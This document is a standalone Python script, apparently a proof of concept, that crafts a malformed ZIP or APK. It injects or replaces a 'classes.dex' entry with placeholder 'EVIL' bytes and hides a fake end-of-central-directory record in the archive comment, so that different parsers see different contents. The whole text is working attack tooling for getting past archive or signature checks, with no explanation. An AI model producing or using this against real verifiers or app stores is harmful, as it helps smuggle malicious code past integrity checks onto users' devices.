import struct, zlib, sys
src, out, mode = sys.argv[1], sys.argv[2], sys.argv[3]; TARGET=sys.argv[4].encode() if len(sys.argv)>4 else b'classes.dex'
b=open(src,'rb').read()
def eocd(z):
    for i in range(len(z)-22,-1,-1):
        if z[i:i+4]==b'PK\x05\x06' and struct.unpack('<H',z[i+20:i+22])[0]==len(z)-i-22: return i
e=eocd(b); n=struct.unpack('<H',b[e+10:e+12])[0]; cdsz,cdoff=struct.unpack('<II',b[e+12:e+20])
# parse CD entries
ents=[]; p=cdoff
for _ in range(n):
    fn_len,ex_len,cm_len=struct.unpack('<HHH',b[p+28:p+34]); L=46+fn_len+ex_len+cm_len
    ents.append(bytearray(b[p:p+L])); p+=L
body=bytearray(b[:e])        # entries + original CD, kept as is
evil=b'EVIL'*1026
newents=[]
for ce in ents:
    name=bytes(ce[46:46+struct.unpack('<H',ce[28:30])[0]])
    if name==TARGET and mode=='replace':
        off=len(body)
        lfh=b'PK\x03\x04'+struct.pack('<HHHHHIIIHH',10,0,0,0,0,zlib.crc32(evil),len(evil),len(evil),len(name),0)+name+evil
        body+=lfh
        struct.pack_into('<HIII',ce,10,0,zlib.crc32(evil),len(evil),len(evil))  # method, (time,date skipped) -> adjust below
        # fix: method at 10, time 12, date 14, crc 16, csize 20, usize 24
        struct.pack_into('<H',ce,10,0); struct.pack_into('<III',ce,16,zlib.crc32(evil),len(evil),len(evil))
        struct.pack_into('<I',ce,42,off)
    newents.append(bytes(ce))
if mode=='add':
    name=b'classes2.dex'; off=len(body)
    body+=b'PK\x03\x04'+struct.pack('<HHHHHIIIHH',10,0,0,0,0,zlib.crc32(evil),len(evil),len(evil),len(name),0)+name+evil
    newents.append(b'PK\x01\x02'+struct.pack('<HHHHHHIIIHHHHHII',20,10,0,0,0,0,zlib.crc32(evil),len(evil),len(evil),len(name),0,0,0,0,0,off)+name)
newcd=b''.join(newents); newcdoff=len(body)
fake=b'PK\x05\x06'+struct.pack('<HHHHIIH',0,0,n,n,cdsz,cdoff,0)
com=fake+b"\x00"*4
eo=b'PK\x05\x06'+struct.pack('<HHHHIIH',0,0,len(newents),len(newents),len(newcd),newcdoff,len(com))+com
open(out,'wb').write(bytes(body)+newcd+eo)
